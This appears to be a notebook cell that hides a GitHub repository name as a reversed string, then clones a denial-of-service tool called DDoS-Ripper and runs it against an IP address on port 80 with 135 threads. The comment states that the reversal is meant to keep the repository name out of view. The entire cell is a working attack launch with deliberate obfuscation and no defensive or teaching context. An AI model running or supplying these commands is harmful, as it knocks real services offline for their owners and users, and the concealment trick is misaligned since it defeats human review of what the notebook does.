# repo name reversed so it does not show up in the notebook
u = "reppiR-SoDD/ushalap/moc.buhtig//:sptth"[::-1]
!git clone {u} /content/r
!cd /content/r && python3 DRipper.py -s 203.0.113.9 -p 80 -t 135
